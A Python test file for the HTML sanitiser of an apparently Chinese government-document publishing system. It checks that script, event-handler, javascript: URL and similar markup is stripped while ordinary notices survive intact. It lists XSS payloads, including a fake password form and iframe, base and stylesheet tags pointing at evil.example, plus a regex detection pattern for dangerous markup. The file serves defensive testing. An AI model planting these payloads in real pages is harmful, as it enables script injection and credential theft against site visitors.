"""Document bodies: a script in a body never runs, and an ordinary government document survives."""

import html
import re

import pytest

from gongkai.documents.sanitising import clean_html, editable_text, is_html, paragraphs_html, plain_text

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    '<a href="javascript:alert(1)">点击</a>',
    '<a href="JaVaScRiPt:alert(1)">点击</a>',
    '<a href="jav&#x09;ascript:alert(1)">点击</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点击</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">点击</a>',
    '<a href=" javascript:alert(1)">点击</a>',
    '<a href="vbscript:msgbox(1)">点击</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点击</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">正文</p>',
    '<p style="text-align:center;behavior:url(x.htc)">正文</p>',
    '<div style="text-align:expression(alert(1))">正文</div>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="password"><button>提交</button></form>',
    '<body onload="alert(1)">',
    '<p onclick="alert(1)" onmouseover="alert(1)">正文</p>',
    '<table background="javascript:alert(1)"><tr><td onclick="alert(1)">x</td></tr></table>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--<script>alert(1)</script>-->",
    '<a href="https://example.cn/" target="_blank" rel="opener">链接</a>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
]

DANGEROUS = re.compile(
    r"<\s*(script|style|iframe|object|embed|form|input|button|svg|math|meta|base|link|body|details|video|source)\b"
    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:|expression\(|behavior|background|srcdoc|(?<!no)opener",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_sanitising(payload):
    cleaned = clean_html("<p>正文</p>" + payload)
    # Decoded too: an entity-encoded "javascript:" left in an attribute would still run.
    assert not DANGEROUS.search(cleaned) and not DANGEROUS.search(html.unescape(cleaned)), cleaned
    assert cleaned.startswith("<p>正文</p>")


def test_markup_inside_an_attribute_value_stays_escaped_text():
    cleaned = clean_html('<p title="&quot;><script>alert(1)</script>">x</p>')
    assert "<script" not in cleaned and cleaned.endswith(">x</p>")
    assert cleaned.count("<p") == 1


def test_scripts_and_styles_vanish_with_their_content_while_form_text_stays():
    cleaned = clean_html('<p>通知</p><script>var secret = 1;</script><style>p{}</style><form>请填写</form>')
    assert cleaned == "<p>通知</p>请填写"


def test_links_keep_http_https_mailto_and_relative_urls_and_get_noopener():
    cleaned = clean_html(
        '<p><a href="https://www.shenyang.gov.cn/">市政府</a> <a href="http://example.cn/a">甲</a> '
        '<a href="mailto:gk@shenyang.gov.cn">邮箱</a> <a href="/documents/12/">相对</a> '
        '<a href="ftp://example.cn/">ftp</a></p>'
    )
    assert '<a href="https://www.shenyang.gov.cn/" rel="noopener noreferrer">市政府</a>' in cleaned
    assert 'href="http://example.cn/a"' in cleaned
    assert 'href="mailto:gk@shenyang.gov.cn"' in cleaned
    assert 'href="/documents/12/"' in cleaned
    assert "ftp:" not in cleaned
    assert cleaned.count('rel="noopener noreferrer"') == 5


def test_images_keep_http_and_relative_sources_and_alt_but_not_data_or_mailto():
    cleaned = clean_html(
        '<img src="/media/tujie.png" alt="图解"><img src="https://example.cn/a.jpg" alt="甲">'
        '<img src="mailto:x@example.cn"><img src="data:image/png;base64,AAAA">'
    )
    assert '<img src="/media/tujie.png" alt="图解">' in cleaned
    assert '<img src="https://example.cn/a.jpg" alt="甲">' in cleaned
    assert "mailto" not in cleaned and "data:" not in cleaned


GOVERNMENT_HTML = (
    '<h2 style="text-align: center">沈阳市人民政府办公厅关于印发2021年政务公开工作要点的通知</h2>'
    "<p>各区、县（市）人民政府，市政府各部门：</p>"
    "<h3>一、工作任务</h3>"
    "<ol><li>推进决策公开</li><li>深化<strong>政策解读</strong></li></ol>"
    "<ul><li>按季度报送</li></ul>"
    '<table><thead><tr><th colspan="2">任务</th><th>责任单位</th></tr></thead>'
    '<tbody><tr><td rowspan="2">1</td><td>规划信息</td><td>市自然资源局</td></tr>'
    "<tr><td>预决算</td><td>市财政局</td></tr></tbody></table>"
    "<blockquote>《中华人民共和国政府信息公开条例》第二十条</blockquote>"
    "<p>H<sub>2</sub>O 与 m<sup>2</sup>，<em>强调</em><u>下划线</u><b>粗</b><i>斜</i></p>"
    "<hr><pre>附件：1. 任务分解表</pre>"
    '<p style="text-align: right">沈阳市人民政府办公厅<br>2021年3月1日</p>'
)


def test_an_ordinary_government_document_survives_unchanged():
    assert clean_html(GOVERNMENT_HTML) == GOVERNMENT_HTML


def test_alignment_is_the_only_style_and_only_with_a_known_value():
    assert clean_html('<p style="text-align:CENTER;">标题</p>') == '<p style="text-align: center">标题</p>'
    assert clean_html('<p style="color:red">标题</p>') == "<p>标题</p>"
    assert clean_html('<p style="text-align:center;color:red">标题</p>') == "<p>标题</p>"
    assert clean_html('<div align="center">落款</div><td align="evil">') == '<div align="center">落款</div>'


def test_merged_cell_spans_must_be_numbers():
    assert clean_html('<table><tr><td colspan="2" rowspan="x">甲</td></tr></table>') == (
        '<table><tbody><tr><td colspan="2">甲</td></tr></tbody></table>'
    )


def test_plain_text_becomes_paragraphs_with_line_breaks_and_escaped_characters():
    text = "各区、县（市）人民政府：\n\n现将《要点》印发给你们，\n请认真贯彻执行。\r\n\r\n\n附件：a < b & c > d\n"
    assert clean_html(text) == (
        "<p>各区、县（市）人民政府：</p>"
        "<p>现将《要点》印发给你们，<br>请认真贯彻执行。</p>"
        "<p>附件：a &lt; b &amp; c &gt; d</p>"
    )


def test_plain_text_that_looks_like_a_script_is_shown_as_text():
    assert clean_html("注意 <scriptx> 与 a<b 不是标签") == "<p>注意 &lt;scriptx&gt; 与 a&lt;b 不是标签</p>"


def test_empty_bodies_stay_empty():
    assert clean_html("") == ""
    assert clean_html(None) == ""
    assert paragraphs_html("\n\n  \n") == ""


@pytest.mark.parametrize(("text", "expected"), [
    ("<p>正文</p>", True),
    ("第一行<br>第二行", True),
    ("<BR/>", True),
    ('<td colspan="2">', True),
    ("甲&nbsp;乙", True),
    ("纯文本\n第二行", False),
    ("a<b 且 c>d", False),
    ("x < 5 and y > 3", False),
    ("《通知》〈附件〉", False),
    ("", False),
])
def test_is_html(text, expected):
    assert is_html(text) is expected


def test_is_html_is_quick_on_hostile_input():
    import time

    started = time.monotonic()
    for text in ("<p " + " " * 100_000 + "x", "<p " + "a=b " * 50_000, "<" * 100_000):
        assert not is_html(text)
    assert time.monotonic() - started < 2


def test_plain_text_separates_blocks_and_cells_and_decodes_entities():
    text = plain_text(
        "<h2>标题</h2><p>甲&nbsp;乙&amp;丙&lt;丁&#x4E00;</p>"
        "<table><tr><td>13812345678</td><td>90</td></tr></table>"
        "<ul><li>一</li><li>二</li></ul>第三行<br>第四行<script>alert(1)</script><style>p{}</style>"
    )
    assert text == "标题\n\n甲 乙&丙<丁一\n\n13812345678\t90\n\n一\n\n二\n\n第三行\n第四行"


def test_plain_text_of_plain_text_is_the_text():
    assert plain_text("第一段\r\n第二段\n") == "第一段\n第二段"
    assert plain_text("") == ""


def test_a_cleaned_plain_text_body_gives_its_text_back():
    body = "第一段\n第二行\n\n第二段"
    assert plain_text(clean_html(body)) == "第一段\n第二行\n\n第二段"


def test_a_body_typed_as_plain_text_is_edited_as_that_text_again():
    typed = "第一条 为规范补助资金管理，制定本办法。\n（一）适用范围 <沈河区>\n\n第二条 本办法自发布之日起施行。"
    stored = clean_html(typed)
    assert "<p>" in stored and "<br>" in stored
    assert editable_text(stored) == typed
    assert clean_html(editable_text(stored)) == stored  # saving the form unchanged stores the same body


def test_a_body_written_in_html_is_edited_as_html():
    stored = clean_html("<p>第一条</p><ul><li>适用范围</li></ul>")
    assert editable_text(stored) == stored
    assert editable_text("") == ""
